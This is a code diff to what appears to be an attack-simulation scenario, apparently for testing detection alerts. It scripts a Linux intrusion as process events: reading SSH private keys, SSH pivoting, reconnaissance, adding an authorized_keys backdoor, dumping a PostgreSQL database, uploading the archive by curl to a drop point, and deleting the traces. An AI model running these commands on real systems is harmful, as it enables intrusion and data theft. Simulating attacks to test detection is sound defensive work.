@@ -74,7 +74,7 @@ function lookAround({ scene }: Stage, web: LinuxActor, shell: LinuxProcess): voi
     ['/usr/bin/ss', 'ss -tnlp'],
     ['/usr/bin/cat', 'cat /var/www/portal/config/database.php'],
     ['/usr/bin/find', 'find / -name id_* -path */.ssh/* -readable'],
-    ['/usr/bin/cat', 'cat /home/deploy/.ssh/id_ed25519', 'Password file read or copied by a command'],
+    ['/usr/bin/cat', 'cat /home/portal/.ssh/id_ed25519', 'Password file read or copied by a command'],
   ];
   for (const [executable, commandLine, alert] of commands) {
     web.start({ parent: shell, executable, commandLine, alert });
@@ -104,22 +104,29 @@ function crossOver(stage: Stage, web: LinuxActor, shell: LinuxProcess): { databa
   const ssh = web.start({
     parent: shell,
     executable: '/usr/bin/ssh',
-    commandLine: 'ssh -o StrictHostKeyChecking=no -i /home/deploy/.ssh/id_ed25519 deploy@10.20.30.21',
+    commandLine: 'ssh -o StrictHostKeyChecking=no -i /home/portal/.ssh/id_ed25519 portal@10.20.30.21',
   });
   web.connect(ssh, { ip: '10.20.30.21', port: 22 });
-  const session = database.sshLogin({ user: 'deploy', fromIp: web.machine.facts.ip });
+  const session = database.sshLogin({ user: 'portal', fromIp: web.machine.facts.ip });
   const remote = database.start({
     parent: session,
     executable: '/usr/bin/bash',
     commandLine: '-bash',
-    user: 'deploy',
-    workingDirectory: '/home/deploy',
+    user: 'portal',
+    workingDirectory: '/home/portal',
   });
   scene.wait(6);
-  database.start({ parent: remote, executable: '/usr/bin/sudo', commandLine: 'sudo -l' });
-  scene.wait(11);
+  const look = (executable: string, commandLine: string) => {
+    database.start({ parent: remote, executable, commandLine });
+    scene.wait(scene.random.between(2, 6));
+  };
+  look('/usr/bin/id', 'id');
+  look('/usr/bin/sudo', 'sudo -n -l');
+  look('/usr/bin/ss', 'ss -tnlp');
+  look('/usr/bin/find', 'find / -name *.sql -size +1M');
+  look('/usr/bin/cat', 'cat /etc/passwd /etc/hosts');
   // `echo >> file` is the shell's own work: no process starts, only the file tells.
-  database.writeFile(remote, '/home/deploy/.ssh/authorized_keys', {
+  database.writeFile(remote, '/home/portal/.ssh/authorized_keys', {
     alert: 'Start-up or trust file changed by an unusual program',
   });
   return { database, shell: remote };
@@ -129,21 +136,21 @@ function takeData({ scene }: Stage, { database, shell }: { database: LinuxActor;
   const dump = database.start({
     parent: shell,
     executable: '/usr/bin/pg_dump',
-    commandLine: 'pg_dump -h 127.0.0.1 -U portal -Fc portal -f /home/deploy/.cache/p.dump',
+    commandLine: 'pg_dump -h 127.0.0.1 -U portal -Fc portal -f /home/portal/.cache/p.dump',
   });
-  database.writeFile(dump, '/home/deploy/.cache/p.dump');
+  database.writeFile(dump, '/home/portal/.cache/p.dump');
   scene.wait(28);
   const tar = database.start({
     parent: shell,
     executable: '/usr/bin/tar',
-    commandLine: 'tar czf /home/deploy/.cache/c.tgz /home/deploy/.cache/p.dump /srv/share/contracts',
+    commandLine: 'tar czf /home/portal/.cache/c.tgz /home/portal/.cache/p.dump /srv/share/contracts',
   });
-  database.writeFile(tar, '/home/deploy/.cache/c.tgz');
+  database.writeFile(tar, '/home/portal/.cache/c.tgz');
   scene.wait(19);
   const curl = database.start({
     parent: shell,
     executable: '/usr/bin/curl',
-    commandLine: `curl -s -k -T /home/deploy/.cache/c.tgz https://${dropPoint}/up/`,
+    commandLine: `curl -s -k -T /home/portal/.cache/c.tgz https://${dropPoint}/up/`,
     alert: 'File sent out by command',
   });
   database.connect(curl, { ip: dropPoint, port: 443 });
@@ -151,7 +158,7 @@ function takeData({ scene }: Stage, { database, shell }: { database: LinuxActor;
   database.start({
     parent: shell,
     executable: '/usr/bin/rm',
-    commandLine: 'rm -f /home/deploy/.cache/p.dump /home/deploy/.cache/c.tgz',
+    commandLine: 'rm -f /home/portal/.cache/p.dump /home/portal/.cache/c.tgz',
   });
-  database.deleteFile(shell, '/home/deploy/.cache/c.tgz');
+  database.deleteFile(shell, '/home/portal/.cache/c.tgz');
 }
